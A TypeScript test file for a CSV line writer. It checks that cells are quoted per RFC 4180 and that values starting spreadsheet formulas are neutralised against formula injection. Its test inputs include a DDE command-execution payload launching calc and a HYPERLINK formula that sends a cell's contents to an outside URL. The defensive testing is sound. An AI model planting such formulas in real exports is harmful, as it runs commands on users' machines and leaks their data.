import fc from "fast-check";
import { expect, test } from "vitest";
import { csvLine } from "@/lib/csv";

test("cells with commas, quotes and line breaks are quoted", () => {
  expect(csvLine(["a", 'say "hi"', "x,y", "two\nlines", null, 7])).toBe('a,"say ""hi""","x,y","two\nlines",,7\r\n');
});

test.each([
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\tx",
  "\rx",
  "\nx",
  "\0=1",
  "  =1+1",
  "\u00a0=1+1",
  "\uff1d1+1",
  "\uff20SUM(A1)",
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("https://example.com/?x="&A1,"Open")',
  "=1;=2",
  "-2+3+cmd|' /C calc'!A0",
  "@import",
])("%j is no formula any more", (cell) => {
  expect(csvLine([cell])).toMatch(/^"?'/);
});

test.each(["a;=1+1", "a\t=1+1", 'a",=1+1', "a\r\n=1+1"])("%j stays one cell for any separator", (cell) => {
  expect(csvLine([cell])).toBe(`"${cell.replaceAll('"', '""')}"\r\n`);
});

test("numbers stay numbers", () => {
  expect(csvLine([-3])).toBe("-3\r\n");
});

/** RFC 4180, read the plain way. */
function parse(text: string): string[] {
  const cells: string[] = [];
  for (const [, cell = "", end] of text.slice(0, -2).matchAll(/("(?:[^"]|"")*"|[^",]*)(,|$)/g)) {
    cells.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end === "") break;
  }
  return cells;
}

test("whatever the cells hold, a reader gets them back, and none begins a formula", () => {
  const cell = fc.string({ unit: fc.constantFrom(..."=+-@\t\r\n\0\",;' ax\uff1d") });
  fc.assert(
    fc.property(fc.array(cell, { minLength: 1, maxLength: 5 }), (cells) => {
      const read = parse(csvLine(cells));
      expect(read.map((text) => text.replace(/^'/, ""))).toEqual(cells.map((text) => text.replace(/^'/, "")));
      expect(read.filter((text) => /^\s*[=+\-@\uff1d]|^[\t\r\0]/.test(text))).toEqual([]);
    }),
    { numRuns: 5000 },
  );
});
